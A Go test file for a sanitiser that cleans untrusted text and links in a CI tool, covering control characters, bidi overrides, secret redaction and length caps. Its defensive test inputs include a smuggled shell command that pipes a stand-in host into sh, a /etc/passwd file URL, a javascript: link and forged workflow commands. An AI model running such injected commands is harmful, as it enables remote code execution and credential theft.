package untrusted

import (
	"fmt"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/docketqa-gate/docketqa-gate/internal/text"
)

const key = "dqa_Secret_Key_0123456789abcdef"

func TestText(t *testing.T) {
	t.Parallel()
	c := NewCleaner(key, 80)
	cases := []struct{ name, in, want string }{
		{"plain", "Login flow", "Login flow"},
		{"empty", "", ""},
		{"only space", " \t\n ", ""},
		{"trim and fold", "  a \t\t b\n\nc  ", "a b c"},
		{"newline forges a command", "ok\n::error title=Forged::x", "ok ::error title=Forged::x"},
		{"carriage return overwrite", "passed\rfailed", "passed failed"},
		{"crlf", "a\r\nb", "a b"},
		{"ansi colour", "\x1b[31mred\x1b[0m", "[31mred [0m"},
		{"osc 8 hyperlink", "\x1b]8;;https://evil\x07click\x1b]8;;\x07", "]8;;https://evil click ]8;;"},
		{"nul and del", "a\x00b\x7fc", "a b c"},
		{"c1 controls", "a\u0085b\u009bc", "a b c"},
		{"bidi override", "abc\u202edcba\u202c", "abcdcba"},
		{"bidi isolates", "\u2066x\u2069\u2067y\u2068z", "xyz"},
		{"zero width", "pa\u200bss\u200c\u200d\u2060ed", "passed"},
		{"bom", "\ufeffTitle", "Title"},
		{"soft hyphen and tags", "ti\u00adtle\U000E0041", "title"},
		{"line separators", "a\u2028b\u2029c", "a b c"},
		{"no-break space", "a\u00a0\u3000b", "a b"},
		{"hangul filler", "a\u3164b", "ab"},
		{"invalid utf-8 run", "a\xff\xfe\xfdb", "a\ufffdb"},
		{"invalid utf-8 apart", "\xffa\xff", "\ufffda\ufffd"},
		{"key", "token " + key + " echoed", "token [redacted] echoed"},
		{"key upper", "x" + strings.ToUpper(key) + "y", "x[redacted]y"},
		{"key mixed", "DQA_secret_KEY_0123456789ABCDEF", "[redacted]"},
		{"key twice", key + key, "[redacted][redacted]"},
		{"key split by zero width", "dqa_Secret\u200b_Key_0123456789abcdef", "[redacted]"},
		{"key split by newline is no key", "dqa_Secret\n_Key_0123456789abcdef", "dqa_Secret _Key_0123456789abcdef"},
		{"attachment marker stays text", "[[ATTACHMENT|/etc/passwd]]", "[[ATTACHMENT|/etc/passwd]]"},
		{"workflow text stays", "##[error]x ::add-mask::y", "##[error]x ::add-mask::y"},
		{"emoji", "ok 👍🏽", "ok 👍🏽"},
		{"exactly cap", strings.Repeat("a", 80), strings.Repeat("a", 80)},
		{"over cap", strings.Repeat("a", 81), strings.Repeat("a", 80-len("… (81 bytes)")) + "… (81 bytes)"},
		{"cut trims space", strings.Repeat("a", 65) + " " + strings.Repeat("b", 21), strings.Repeat("a", 65) + "… (87 bytes)"},
		{"cut on rune boundary", strings.Repeat("é", 50), strings.Repeat("é", 32) + "… (100 bytes)"},
		{"cut inside redaction", strings.Repeat("a", 60) + key + strings.Repeat("b", 20), strings.Repeat("a", 60) + "[reda… (111 bytes)"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got := c.Text(tc.in)
			if string(got) != tc.want {
				t.Errorf("Text(%q) = %q, want %q", tc.in, got, tc.want)
			}
			if again := c.Text(string(got)); again != got {
				t.Errorf("not idempotent: %q then %q", got, again)
			}
		})
	}
}

func TestTextHuge(t *testing.T) {
	t.Parallel()
	c := NewCleaner(key, 512)
	in := strings.Repeat("x", 7<<20) + key
	got := c.Text(in)
	want := strings.Repeat("x", 512-len("… (7340063 bytes)")) + "… (7340063 bytes)"
	if string(got) != want {
		t.Errorf("Text(7 MiB) = %d bytes %q…, want %d bytes", len(got), got[:20], len(want))
	}
}

func TestPrefix(t *testing.T) {
	t.Parallel()
	c := NewCleaner(key, 64)
	cases := []struct {
		name  string
		p     string
		total int
		want  string
	}{
		{"whole", "short", 5, "short"},
		{"whole with smaller total", "short", 2, "short"},
		{"cut short text", "short", 9000, "short… (9000 bytes)"},
		{"unknown length", "short", -1, "short…"},
		{"key cut in two", "see dqa_Secret_Ke", 100, "see… (100 bytes)"},
		{"key cut in two, any case", "see DQA_SECRET_KE", 100, "see… (100 bytes)"},
		{"two runes of key kept", "see dq", 100, "see dq… (100 bytes)"},
		{"full key then cut", "see " + key + " and", 100, "see [redacted] and… (100 bytes)"},
		{"cut space trimmed", "abc   ", 100, "abc… (100 bytes)"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if got := c.Prefix(tc.p, tc.total); string(got) != tc.want {
				t.Errorf("Prefix(%q, %d) = %q, want %q", tc.p, tc.total, got, tc.want)
			}
		})
	}
	if w := c.Window(); w != 2*64+4*len(key)+16 {
		t.Errorf("Window() = %d", w)
	}
}

func TestCaps(t *testing.T) {
	t.Parallel()
	var zero Cleaner
	if zero.Cap() != DefaultCap || NewCleaner("", 0).Cap() != DefaultCap || NewCleaner("", 1).Cap() != MinCap {
		t.Errorf("caps: zero %d, 0 %d, 1 %d", zero.Cap(), NewCleaner("", 0).Cap(), NewCleaner("", 1).Cap())
	}
	c := NewCleaner(key, 100).WithCap(512)
	if c.Cap() != 512 || string(c.Text(key)) != Redacted {
		t.Errorf("WithCap lost the cap or the key: %d %q", c.Cap(), c.Text(key))
	}
	if got := zero.Text(key); string(got) != key {
		t.Errorf("zero Cleaner changed %q to %q", key, got)
	}
	if got := zero.Text(strings.Repeat("a", DefaultCap+1)); len(got) > DefaultCap {
		t.Errorf("zero Cleaner kept %d bytes", len(got))
	}
}

// TestOddKeys covers keys that the "[redacted]" marker or the cut marker
// could help form again: the output still never holds them.
func TestOddKeys(t *testing.T) {
	t.Parallel()
	for _, k := range []string{"d]x", "[red", "redacted", "a", "bytes)", "… (", "12345678", " spaced key ", "k\x00ey\n", "K"} {
		c := NewCleaner(k, MinCap)
		for _, in := range []string{k, "x" + k + "x", "[redacted]x" + k, strings.Repeat(k, 40), strings.Repeat("y", 100), "d]d]xx", strings.Repeat("\u200b", 200)} {
			got := c.Text(in)
			if c.holds(string(got)) {
				t.Errorf("key %q: Text(%q) = %q still holds it", k, in, got)
			}
			if again := c.Text(string(got)); again != got {
				t.Errorf("key %q: not idempotent: %q then %q", k, got, again)
			}
		}
	}
}

func TestURL(t *testing.T) {
	t.Parallel()
	c := NewCleaner(key, 0)
	long := "https://s3.example/x?sig=" + strings.Repeat("a", MaxURL-len("https://s3.example/x?sig="))
	cases := []struct {
		in   string
		want string
		ok   bool
	}{
		{"", "", true},
		{"   ", "", true},
		{"https://cdn.example/s/1.png", "https://cdn.example/s/1.png", true},
		{"http://127.0.0.1:8080/v.webm", "http://127.0.0.1:8080/v.webm", true},
		{"HTTPS://cdn.example/ok.mp4", "https://cdn.example/ok.mp4", true},
		// Re-serialised by net/url: what RFC 3986 forbids is escaped.
		{"https://phish.example/x/$(curl${IFS}phish.example|sh)", "https://phish.example/x/$%28curl$%7BIFS%7Dphish.example%7Csh%29", true},
		{"https://s3.example/v.webm?X-Amz-Signature=ab%2Fcd&q=$(x${IFS}|y)`z`", "https://s3.example/v.webm?X-Amz-Signature=ab%2Fcd&q=$(x$%7BIFS%7D%7Cy)%60z%60", true},
		{" https://cdn.example/a \n", "https://cdn.example/a", true},
		{long, long, true},
		{long + "a", "", false},
		{"javascript:alert(1)", "", false},
		{"ftp://x/y", "", false},
		{"file:///etc/passwd", "", false},
		{"/relative/path.png", "", false},
		{"//cdn.example/x", "", false},
		{"https:opaque", "", false},
		{"https://", "", false},
		{"https://app.example@evil.example/", "", false},
		{"https://a.example/x y", "", false},
		{"https://a.example/x\ny", "", false},
		{"https://a.example/\x1b[31m", "", false},
		{"https://a.example/\u202e", "", false},
		{"https://a.example/é", "", false},
		{"https://a.example/%zz", "", false},
		{"https://a.example/?k=" + key, "", false},
		{"https://a.example/?k=" + strings.ToUpper(key), "", false},
		{"https://a.example/?k=%64qa_Secret_Key_0123456789abcdef", "", false},
		{"https://[::1", "", false},
	}
	for _, tc := range cases {
		got, ok := c.URL(tc.in)
		if string(got) != tc.want || ok != tc.ok {
			t.Errorf("URL(%.60q) = %.60q, %v; want %.60q, %v", tc.in, got, ok, tc.want, tc.ok)
		}
	}
}

func TestStringers(t *testing.T) {
	t.Parallel()
	if Text("a").String() != "a" || URL("b").String() != "b" {
		t.Error("String methods")
	}
}

// FuzzClean checks the promises of Text on any input and key: one line of
// visible characters, never the key in any case, within the cap, and
// cleaning a Text again changes nothing.
func FuzzClean(f *testing.F) {
	for _, s := range []string{"", "a\nb", "\x1b]8;;x\x07y", key, strings.ToUpper(key) + "\u202e", "\xff\xfe", strings.Repeat("é", 200), "[redacted]"} {
		f.Add(s, key, 64)
		f.Add(s, "k", 100)
	}
	f.Fuzz(func(t *testing.T, s, k string, capBytes int) {
		capBytes = MinCap + abs(capBytes)%4096
		c := NewCleaner(k, capBytes)
		got := string(c.Text(s))
		if !utf8.ValidString(got) {
			t.Fatalf("invalid UTF-8: %q", got)
		}
		if len(got) > c.Cap() {
			t.Fatalf("%d bytes over the cap of %d: %q", len(got), c.Cap(), got)
		}
		if got != strings.TrimSpace(got) || strings.Contains(got, "  ") {
			t.Fatalf("unfolded space: %q", got)
		}
		for _, r := range got {
			if text.IsSpaceLike(r) && r != ' ' || text.IsInvisible(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) {
				t.Fatalf("kept %U in %q", r, got)
			}
		}
		if c.holds(got) {
			t.Fatalf("a key %q survives in %q", c.keys, got)
		}
		if strings.TrimSpace(k) != "" && !strings.ContainsFunc(k, func(r rune) bool { return text.IsSpaceLike(r) || text.IsInvisible(r) || r == utf8.RuneError }) &&
			strings.Contains(strings.ToLower(got), strings.ToLower(k)) {
			t.Fatalf("raw key %q survives in %q", k, got)
		}
		if again := string(c.Text(got)); again != got {
			t.Fatalf("not idempotent: %q then %q", got, again)
		}
		p := s[:min(len(s), c.Window())]
		if pre := string(c.Prefix(p, len(s))); len(pre) > c.Cap() || c.holds(pre) {
			t.Fatalf("Prefix(%q) = %q", p, pre)
		}
		if u, ok := c.URL(s); ok && u != "" && (strings.ContainsFunc(string(u), func(r rune) bool { return r <= ' ' || r >= 0x7f }) || len(u) > MaxURL) {
			t.Fatalf("URL(%q) kept %q", s, u)
		}
	})
}

func abs(n int) int {
	if n < 0 {
		if -n < 0 {
			return 0
		}
		return -n
	}
	return n
}

// TestCharacterClasses pins the edges of each class of character.
func TestCharacterClasses(t *testing.T) {
	t.Parallel()
	c := NewCleaner("", 0)
	for r, want := range map[rune]string{
		0x1f: "a b", 0x20: "a b", 0x21: "a!b", 0x7e: "a~b", 0x7f: "a b", 0x80: "a b", 0x9f: "a b", 0xa0: "a b", 0xa1: "a¡b",
		0xad: "ab", 0x200b: "ab", 0x2028: "a b", 0x202e: "ab", 0x2066: "ab", 0xfeff: "ab",
		0xfdcf: "a\ufdcfb", 0xfdd0: "ab", 0xfdef: "ab", 0xfdf0: "a\ufdf0b",
		0xfffd: "a\ufffdb", 0xfffe: "ab", 0xffff: "ab", 0x1fffd: "a\U0001fffdb", 0x1fffe: "ab", 0x10ffff: "ab",
		0x115f: "ab", 0x1160: "ab", 0x3164: "ab", 0xffa0: "ab", 0x115e: "a\u115eb",
	} {
		in := "a" + string(r) + "b"
		if got := string(c.Text(in)); got != unescape(want) {
			t.Errorf("Text(%U) = %q, want %q", r, got, unescape(want))
		}
	}
}

// unescape turns the \uXXXX and \UXXXXXXXX of want strings into runes.
func unescape(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) && (s[i+1] == 'u' || s[i+1] == 'U') {
			n := 4
			if s[i+1] == 'U' {
				n = 8
			}
			var r rune
			for _, h := range s[i+2 : i+2+n] {
				r = r*16 + rune(strings.IndexRune("0123456789abcdef", unicode.ToLower(h)))
			}
			b.WriteRune(r)
			i += 1 + n
			continue
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

func TestWindowEdge(t *testing.T) {
	t.Parallel()
	c := NewCleaner("", MinCap)
	w := c.Window()
	at := "a" + strings.Repeat(" ", w-2) + "b"
	if got := c.Text(at); got != "a b" {
		t.Errorf("text of exactly the window: %q", got)
	}
	if got, want := c.Text(at+"c"), fmt.Sprintf("a b… (%d bytes)", w+1); string(got) != want {
		t.Errorf("text one past the window: %q, want %q", got, want)
	}
	// The window never ends inside a character, which would read as
	// invalid UTF-8.
	if got, want := c.Text("a"+strings.Repeat("é", w)), "a"+strings.Repeat("é", (MinCap-len("a… (289 bytes)"))/2)+"… (289 bytes)"; string(got) != want {
		t.Errorf("window inside a character: %q, want %q", got, want)
	}
	if got := c.Text(strings.Repeat("\u200b", w)); string(got) != fmt.Sprintf("… (%d bytes)", 3*w) {
		t.Errorf("invisible text past the window: %q", got)
	}
}

// TestFoldedKeys: the key is found in any case, also through the two
// non-ASCII letters that fold to ASCII ones, and when it starts with a
// non-ASCII letter.
func TestFoldedKeys(t *testing.T) {
	t.Parallel()
	cases := []struct{ key, in, want string }{
		{"k-secret-0123456789", "x \u212a-SECRET-0123456789 y", "x [redacted] y"},
		{"s3cr3t-token-1234", "\u017f3CR3T-TOKEN-1234", "[redacted]"},
		{"\u00c4\u00d6\u00dc-secret-key", "a \u00e4\u00f6\u00fc-SECRET-KEY", "a [redacted]"},
		{"\u00c4\u00d6\u00dc-secret-key", "\u00e4\u00f6 nothing", "\u00e4\u00f6 nothing"},
		{"https://secret.example", "https://SECRET.example/x", "[redacted]/x"},
	}
	for _, tc := range cases {
		c := NewCleaner(unescape(tc.key), 0)
		if got := string(c.Text(unescape(tc.in))); got != unescape(tc.want) {
			t.Errorf("key %q: Text(%q) = %q, want %q", tc.key, tc.in, got, tc.want)
		}
	}
	c := NewCleaner("https://secret.example", 0)
	if u, ok := c.URL("https://secret.example/x"); ok || u != "" {
		t.Errorf("a link that is the key kept: %q", u)
	}
	if u, ok := c.URL("https://a.example/!~*'()"); !ok || u != "https://a.example/!~*'()" {
		t.Errorf("printable link dropped: %q", u)
	}
	if _, ok := c.URL("https://a.example/\x7f"); ok {
		t.Error("DEL in a link kept")
	}
}

func TestKeyPrefixAtCut(t *testing.T) {
	t.Parallel()
	c := NewCleaner(key, 64)
	for p, want := range map[string]string{
		"see dqa":         "see… (100 bytes)",
		"see dq":          "see dq… (100 bytes)",
		"é dqa_S":         "é… (100 bytes)",
		"ééé":             "ééé… (100 bytes)",
		"see DQA_secret_": "see… (100 bytes)",
	} {
		if got := string(c.Prefix(p, 100)); got != want {
			t.Errorf("Prefix(%q) = %q, want %q", p, got, want)
		}
	}
}

// TestWithSecret: a second secret (the GitHub token) is redacted like the
// key, in any letter case, and no part of it survives a cut, in texts and
// links alike.
func TestWithSecret(t *testing.T) {
	t.Parallel()
	const key, token = "dqa_Secret_Key_0123456789abcdef", "ghp_TokenTokenToken0123456789"
	c := NewCleaner(key, 64).WithSecret(token)
	for _, in := range []string{
		"title " + token,
		"title " + strings.ToUpper(token) + " and " + key,
		strings.Repeat("x", 40) + token, // cut inside the token
	} {
		got := string(c.Text(in))
		if strings.Contains(strings.ToLower(got), strings.ToLower(token)[:8]) || strings.Contains(strings.ToLower(got), strings.ToLower(key)[:8]) {
			t.Errorf("Text(%q) = %q: a secret or its start survives", in, got)
		}
	}
	if u, ok := c.URL("https://media.example/x?t=" + token); ok || u != "" {
		t.Errorf("a link holding the token was kept: %q", u)
	}
	if got := string(NewCleaner(key, 0).Text("title " + token)); !strings.Contains(got, token) {
		t.Errorf("without WithSecret the token is not a secret, got %q", got)
	}
}
